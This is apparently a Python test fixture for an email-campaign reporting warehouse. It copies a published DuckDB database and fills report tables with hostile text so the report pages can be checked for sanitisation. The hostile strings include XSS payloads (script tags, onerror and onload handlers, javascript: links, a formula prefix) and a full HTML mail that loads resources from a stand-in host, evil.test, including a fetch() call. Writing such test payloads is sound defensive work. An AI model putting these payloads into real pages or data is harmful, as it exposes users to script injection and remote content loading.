"""A published version for the tests of the report pages: the demo's, in a folder of its own, with hostile texts in it.

Altered by DuckDB, because another run of the pipeline would cost a minute and sanitise nothing.
"""

import os
import shutil
from pathlib import Path

import duckdb

from log_ingest.content_links import links

EVIL = "http://evil.test"
HOSTILE = (
    f"=![p]({EVIL}/px) <img src='{EVIL}/i' onerror='alert(1)'> <script>document.title='taken'</script>"
    f" [a](javascript:alert(2)) :red[x] $y$ </table></div>\"'><svg onload=alert(3)> \u202etxt"
)
"""Markdown, HTML, a formula and a change of direction in one."""

MAIL = f"""<!DOCTYPE html><html><head><title>taken</title><meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<base href="{EVIL}/base/"><link rel="stylesheet" href="{EVIL}/link.css"><link rel="prefetch" href="{EVIL}/prefetch">
<style>@import url({EVIL}/import.css); @font-face {{font-family:x;src:url({EVIL}/font)}}
body {{background:url({EVIL}/style.png);font-family:x}} .mtw-badge {{display:none !important}}</style>
<script src="{EVIL}/head.js"></script></head>
<body background="{EVIL}/background" onload="alert(4)" style="background-image:url({EVIL}/inline.png)">
<script>parent.document.title = top.document.title = 'taken'; alert(5); fetch('{EVIL}/fetch')</script>
<table width="640"><tr><td width="320">
<a href="https://www.shop.example.com/one" target="_top" onclick="alert(6)">One</a></td>
<td width="320"><a href="https://www.shop.example.com/two"><img src="{EVIL}/image" width="600" alt="Two"
 onerror="alert(7)" srcset="{EVIL}/srcset 2x"></a></td></tr></table>
<a href="javascript:alert(8)">Three</a> &#xe002;1&#xe003; <b title="&#xe002;1&#xe003;">x</b>
<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<video poster="{EVIL}/poster" src="{EVIL}/video"></video><svg><image href="{EVIL}/svg"/><script>alert(9)</script></svg>
<form action="{EVIL}/form"><input name="q"><button>Go</button></form><math><mtext><style><img src="{EVIL}/math"></style>
<noscript><img src="{EVIL}/noscript"></noscript><textarea><a href="x">y</a></textarea>
<img src="https://t.shop.example.com/r/?id=h0,0,1" width="1" height="1" alt=""></body></html>"""

# Where data of others is shown: table, its columns, which rows.
TEXTS = [
    ("core.dim_deliveries", ("delivery_label", "campaign_label", "channel", "typology"), "delivery_id = $id"),
    ("reports.delivery_dashboard", ("delivery_label",), "delivery_id = $id"),
    ("core.dim_tracked_urls", ("label", "source_url", "category"), "delivery_id = $id and url_id % 3 <> 0"),
    ("reports.rpt_hot_clicks", ("label", "source_url"), "delivery_id = $id and url_id % 3 <> 0"),
    ("reports.delivery_tracking", ("label", "url", "recipient_label", "machine_rule"), "delivery_id = $id"),
    ("reports.profile_tracking", ("label", "url", "delivery_label"), "delivery_id = $id"),
    ("reports.rpt_opens_by_device", ("os_name", "browser_name"), "delivery_id = $id and device_class = 'desktop'"),
    ("reports.rpt_delivery_statistics", ("mail_domain",), "delivery_id = $id and processed_count % 2 = 0"),
    ("reports.rpt_delivery_failures_by_domain", ("mail_domain",), "delivery_id = $id and failure_count % 2 = 0"),
    ("core.dim_recipients", ("recipient_label", "email", "language"), "recipient_id = $recipient"),
    ("core.dim_services", ("service_label",), "true"),
    ("reports.rpt_subscriptions", ("service_label",), "service_id = (select min(service_id) from core.dim_services)"),
    ("reports.rpt_browsers", ("browser_name", "browser_version"), "browser_name = 'Chrome'"),
    ("reports.rpt_operating_systems", ("os_name",), "os_name = 'Windows'"),
    ("reports.rpt_web_paths", ("path_label", "label"), "position = 1"),
    ("meta.quarantined_lines", ("source_file", "reason"), "true"),
]


def make_version(source: Path, warehouse: Path, number: int) -> Path:
    """A writable copy of a published file and its clear values as version <number> of a warehouse, not yet current."""
    folder = warehouse / "published" / "versions" / f"{number:06d}"
    folder.mkdir(parents=True)
    shutil.copyfile(source, folder / "marts.duckdb")
    shutil.copyfile(source.with_name("identities.duckdb"), folder / "identities.duckdb")
    with duckdb.connect(str(folder / "marts.duckdb")) as con:
        con.execute("update meta.publication set version = ?", [number])
    return folder / "marts.duckdb"


def make_current(warehouse: Path, number: int) -> None:
    """Swap the link, as publishing does."""
    published = warehouse / "published"
    link = published / "marts.duckdb"
    if not link.is_symlink():
        link.symlink_to("current/marts.duckdb")
    (published / "next").symlink_to(f"versions/{number:06d}")
    os.replace(published / "next", published / "current")  # noqa: PTH105 (replaces the link, not what it names)


def make_hostile(path: Path, delivery_id: int, recipient_id: int) -> None:
    """Put hostile texts wherever a page shows data of one delivery and one recipient, and a hostile mail."""
    with duckdb.connect(str(path.with_name("identities.duckdb"))) as con:
        clear = "update core.dim_recipients set recipient_label = $1, email = $1 where recipient_id = $2"
        assert con.execute(clear, [HOSTILE, recipient_id]).fetchall() == [(1,)]
    with duckdb.connect(str(path)) as con:
        for table, columns, where in TEXTS:
            values = {"text": HOSTILE}
            values |= {
                name: number
                for name, number in (("id", delivery_id), ("recipient", recipient_id))
                if f"${name}" in where
            }
            changed = con.execute(
                f"update {table} set {', '.join(f'{column} = $text' for column in columns)} where {where}", values
            ).fetchall()
            assert changed[0][0], f"{table} has a row to spoil"
        con.execute("update core.dim_delivery_contents set html_content = ? where delivery_id = ?", [MAIL, delivery_id])
        con.execute(
            "insert into meta.problem_files values ('tracking_logs', ?, ?, timestamp '2024-05-01')", [HOSTILE] * 2
        )
        con.execute(
            "insert into meta.restatements values (?, ?, ?, 1, 2, timestamp '2024-05-01', 2, 'run', ?, ?)",
            [delivery_id, *[HOSTILE] * 4],
        )
        # The first two links of the mail carry shares; what else the delivery has is not in this content.
        con.execute(
            "update reports.rpt_hot_clicks set is_drawn = false, is_in_content = false where delivery_id = ?",
            [delivery_id],
        )
        con.execute(
            "delete from reports.rpt_hot_clicks where delivery_id = ? and link_position <= ?",
            [delivery_id, len(links(MAIL))],
        )
        for position, share in ((1, 0.25), (2, 0.5)):
            con.execute(
                "insert into reports.rpt_hot_clicks (delivery_id, url_id, link_position, label, source_url, url_type,"
                " click_count, human_click_count, click_share, human_click_share, is_in_content, is_drawn)"
                " values (?, ?, ?, ?, ?, 1, 10, 5, ?, ?, true, true)",
                [delivery_id, 9_000_000 + position, position, HOSTILE, HOSTILE, share, share / 2],
            )
